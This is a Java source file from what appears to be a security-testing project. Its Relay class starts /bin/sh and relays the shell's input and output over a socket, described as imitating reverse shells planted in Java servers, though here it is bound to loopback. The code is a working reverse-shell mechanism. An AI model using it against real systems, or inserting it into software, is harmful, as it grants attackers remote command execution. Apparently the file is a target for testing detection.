/*
 * SPDX-License-Identifier: Apache-2.0
 * Copyright The Acheron Authors
 */
package io.acheron.local.technique.target;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;

/** Joins a shell to a socket on loopback, as the reverse shells that are brought into Java servers do. */
public final class Relay {
    /** @param args port on 127.0.0.1 to call */
    public static void main(String[] args) throws IOException {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), Integer.parseInt(args[0]))) {
            Process shell =
                    new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
            Thread back = new Thread(() -> copy(shell.getInputStream(), output(socket)), "relay-out");
            back.setDaemon(true);
            back.start();
            copy(socket.getInputStream(), shell.getOutputStream());
            shell.destroy();
        }
    }

    private static OutputStream output(Socket socket) {
        try {
            return socket.getOutputStream();
        } catch (IOException e) {
            return OutputStream.nullOutputStream();
        }
    }

    private static void copy(InputStream from, OutputStream to) {
        byte[] buffer = new byte[4096];
        try {
            for (int length = from.read(buffer); length >= 0; length = from.read(buffer)) {
                to.write(buffer, 0, length);
                to.flush();
            }
        } catch (IOException e) {
            // Either end has hung up, which is how a reverse shell ends.
        }
    }

    private Relay() {}
}
